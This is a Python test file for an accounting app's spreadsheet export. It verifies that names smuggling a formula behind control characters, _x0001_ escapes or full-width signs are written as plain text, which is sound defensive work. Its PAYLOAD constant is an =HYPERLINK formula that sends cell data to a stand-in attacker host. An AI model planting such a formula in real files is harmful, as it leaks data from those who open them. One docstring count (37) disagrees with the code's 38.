"""Attack 2: a control character in front of ``=`` smuggled a live formula into exports.

``"\\x01=HYPERLINK(…)"`` was checked for a leading ``=`` (none: it starts with ``\\x01``),
then the .xlsx writer dropped the ``\\x01`` and wrote ``=HYPERLINK(…)`` as a formula. Now text
is cleaned first and neutralised after, so every C0 control, the escaped form ``_x0001_`` and
the full-width ``＝ ＋ － ＠`` come out as plain text with a leading apostrophe.
"""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl
import pytest
from book_checks import book_state
from sqlalchemy import select

from csm_desktop.cli import main
from csm_desktop.spreadsheets.safe_cells import clean_text, neutralise_text, write_safe_csv
from csm_desktop.store.database import open_database
from csm_desktop.store.models import Account

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CONTROLS = [chr(code) for code in range(0x20)] + ["\x7f"]
LOOK_ALIKES = ["＝", "＋", "－", "＠"]  # full-width = + - @


@pytest.mark.parametrize("control", CONTROLS, ids=[f"U+{ord(c):04X}" for c in CONTROLS])
def test_every_control_character_before_a_formula_is_cleaned_then_neutralised(
    control: str,
) -> None:
    written = neutralise_text(control + PAYLOAD)
    assert written.startswith("'")
    assert clean_text(written) == written  # nothing the writer could still drop


@pytest.mark.parametrize("prefix", ["_x0001_", "_x001F_", "_x0000__x0002_", "\x01_x0003_"])
def test_the_xlsx_escape_of_a_control_character_is_cleaned_too(prefix: str) -> None:
    assert neutralise_text(prefix + PAYLOAD) == "'" + PAYLOAD


@pytest.mark.parametrize("look_alike", LOOK_ALIKES)
def test_full_width_formula_signs_are_neutralised_and_restored(look_alike: str) -> None:
    assert neutralise_text(look_alike + "SUM(A1:A9)") == "'" + look_alike + "SUM(A1:A9)"


def test_export_book_writes_no_formula_for_any_hostile_name(
    demo_book: Path, tmp_path: Path
) -> None:
    """37 hostile names (32 C0 + DEL + escape + 4 look-alikes … one per account): every one
    reaches the Accounts sheet as a text cell starting with an apostrophe, no ``<f>`` at all."""
    names = [control + PAYLOAD + f" #{n}" for n, control in enumerate(CONTROLS)]
    names += [f"_x0001_{PAYLOAD} #esc"] + [
        f"{sign}{PAYLOAD} #fw{n}" for n, sign in enumerate(LOOK_ALIKES)
    ]
    database = open_database(demo_book)
    try:
        with database.session() as session:
            accounts = session.scalars(select(Account).order_by(Account.id)).all()
            for account, name in zip(accounts, names, strict=False):
                account.name = name
    finally:
        database.close()
    before = book_state(demo_book)
    target = tmp_path / "book.xlsx"

    assert main(["--db", str(demo_book), "export-book", str(target)]) == 0

    assert book_state(demo_book) == before
    with zipfile.ZipFile(target) as archive:
        for part in archive.namelist():
            if part.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(part) and b"<f " not in archive.read(part)
    sheet = openpyxl.load_workbook(target)["Accounts"]
    exported = {cell.value: cell.data_type for (cell,) in sheet.iter_rows(min_row=2, max_col=1)}
    hostile = [value for value in exported if PAYLOAD in str(value)]
    assert len(hostile) == len(names) == 38
    for value in hostile:
        assert exported[value] == "s"
        assert str(value)[0] == "'" and str(value)[1] in "=＝＋－＠\t\r\n", value


def test_the_csv_writer_neutralises_the_same_way(tmp_path: Path) -> None:
    target = tmp_path / "rows.csv"
    write_safe_csv(target, ["Value"], [["\x01" + PAYLOAD], ["＠SUM(1)"], ["_x0002_+1"], [-5]])
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["Value"], ["'" + PAYLOAD], ["'＠SUM(1)"], ["'+1"], ["-5"]]
